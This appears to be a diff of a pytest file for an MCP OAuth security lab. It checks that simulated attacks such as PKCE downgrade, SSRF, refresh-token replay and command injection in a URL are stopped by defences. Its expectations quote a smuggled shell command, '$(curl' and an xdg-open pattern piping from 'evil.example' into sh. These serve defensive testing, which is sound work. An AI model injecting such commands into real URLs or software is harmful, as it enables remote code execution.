@@ -9,14 +9,16 @@ from functools import partial
 from pathlib import Path
 from typing import Any
 
+import httpx
 import pytest
+from starlette.types import ASGIApp
 
 import mcp_oauth_nb
 from mcp_oauth_nb import HttpLab, Lab, attacks
 from mcp_oauth_nb.attacks import fronts
 from mcp_oauth_nb.attacks.by_hand import ByHand, code_of, said, whose_data
 from mcp_oauth_nb.attacks.outcome import Outcome, Plot, Refused, Table
-from mcp_oauth_nb.attacks.scene import Browser
+from mcp_oauth_nb.attacks.scene import Browser, form_of
 from mcp_oauth_nb.errors import (
     ConfigurationError,
     InsufficientScope,
@@ -34,6 +36,13 @@ IMPORTS = (ast.Import, ast.ImportFrom)
 pytestmark = pytest.mark.anyio
 
 VICTIM = {"data of": "octocat"}
+DOWNGRADES = (
+    "token, challenge taken out of the request",
+    "token, challenge taken out, and a verifier made up",
+    "token, method plain, and the challenge as verifier",
+    "token, verifier left out of the exchange",
+    "token, PKCE not announced",
+)
 
 # name -> what the attacker has in the end, and the error at which it ends with the check.
 EXPECTED: dict[str, tuple[dict[str, str], type[McpOAuthError], str]] = {
@@ -42,7 +51,11 @@ EXPECTED: dict[str, tuple[dict[str, str], type[McpOAuthError], str]] = {
     "mix_up": ({"code verifier": "*", **VICTIM}, IssuerMismatch, r"mcp\.example != https://evil\.example"),
     "code_injection": ({"a session as": "octocat"}, InvalidAuthorizationCode, "bad_verification_code"),
     "login_csrf": ({"the victim works as": "mallory"}, StateMismatch, "belongs to no authorization request"),
-    "pkce_downgrade": (VICTIM, Refused, "invalid_request: code_challenge is required"),
+    "pkce_downgrade": (
+        {**dict.fromkeys(DOWNGRADES, "mcp_*"), **VICTIM},
+        Refused,
+        "invalid_request: code_challenge is required",
+    ),
     "wrong_audience": (VICTIM, Refused, "invalid_token: The access token was not issued for this resource"),
     "token_passthrough": (VICTIM, Refused, "invalid_token: The access token is unknown"),
     "open_redirector": (
@@ -56,7 +69,11 @@ EXPECTED: dict[str, tuple[dict[str, str], type[McpOAuthError], str]] = {
     "callback_hijack": ({"code": "*", "state": "*"}, ConfigurationError, "Port … of 127.0.0.1 cannot be listened on"),
     "ssrf": ({"requests from inside": "5"}, Refused, 'answered 400 with the page "Unknown client", five times'),
     "ssrf_in_discovery": ({"requests from inside": "4"}, SecurityError, "further inside the network"),
-    "command_in_url": ({"a shell that runs": "$(curl"}, SecurityError, "is not an http"),
+    "command_in_url": (
+        {"started by their scheme": "javascript, file, vscode", "a shell that runs": "$(curl"},
+        SecurityError,
+        "is not an http",
+    ),
     "confused_deputy": (VICTIM, Refused, 'asked the victim first, with the page "Authorize Free stickers"'),
     "issuer_switch": (VICTIM, Refused, "Nothing that https://mcp.example has given went to https://evil.example"),
     "step_up_loop": ({"consent pages opened": "5"}, InsufficientScope, "asking for it did not help"),
@@ -124,19 +141,46 @@ async def test_with_the_check_it_is_stopped_there_and_nothing_is_got(ran: Ran, n
 
 
 async def test_the_more_that_an_attack_tries_is_stopped_too(ran: Ran) -> None:
-    steps = {
-        "pkce_downgrade": "answered 400 invalid_request: code_verifier is required",
-        "refresh_replay": "the victim's newest tokens are dead as well",
-        "callback_hijack": "A forged callback, the genuine one, a second one: 400, 200, (409|closed)",
-        "confused_deputy": 'The server answers 400 with the page "Start again"',
-        "localhost_impersonation": "The answer goes to a program on your own device",
-        "issuer_switch": r"comes to https://evil\.example as a stranger \(\S+, /register\), and asks the person",
-        "step_up_loop": "asks the person once, in vain",
-        "command_in_url": r"becomes the command xdg-open '\S+ -s evil\.example\|sh\)&state=s'$",
-    }
-    for name, text in steps.items():
+    steps = [
+        ("pkce_downgrade", "code_challenge_method must be S256"),
+        ("pkce_downgrade", "answered 400 invalid_request: code_verifier is required"),
+        ("pkce_downgrade", r"The authorization server https://mcp\.example does not announce PKCE with S256"),
+        ("refresh_replay", "the victim's newest tokens are dead as well"),
+        ("callback_hijack", "A forged callback, the genuine one, a second one: 400, 200, (409|closed)"),
+        ("confused_deputy", 'The server answers 400 with the page "Start again"'),
+        ("localhost_impersonation", "The answer goes to a program on your own device"),
+        ("issuer_switch", r"comes to https://evil\.example as a stranger \(\S+, /register\), and asks the person"),
+        ("step_up_loop", "asks the person once, in vain"),
+        ("command_in_url", r"becomes the command xdg-open '\S+ -s evil\.example\|sh\)&state=s'$"),
+    ]
+    for name, text in steps:
         outcome = ran.outcome(name, defence=True)
         assert any(re.search(text, step) for step in outcome.steps), outcome
+
+
+class EndsRefreshAlone(fronts.Front):
+    """A server where the access tokens of a family outlive its refresh tokens."""
+
+    def __init__(self, server: ASGIApp):
+        super().__init__(server)
+        self._used: set[str] = set()
+        self._over = False
+
+    async def handle(self, request: httpx.Request) -> httpx.Response:
+        token = form_of(request).get("refresh_token") if request.url.path == "/token" else None
+        if token is not None:
+            self._over |= token in self._used
+            self._used.add(token)
+        if token is not None and self._over:
+            return httpx.Response(400, json={"error": "invalid_grant"})
+        return await super().handle(request)
+
+
+async def test_tokens_are_called_dead_only_if_all_of_them_are(lab: HttpLab) -> None:
+    with lab.network.instead(EndsRefreshAlone):
+        outcome = await attacks.refresh_replay(lab, defence=True)
+    assert outcome.stopped_by is not None
+    assert "which of the two is the thief" in outcome.steps[-1]
 
 
 async def test_no_secret_is_in_an_outcome_or_in_the_trace(ran: Ran) -> None:
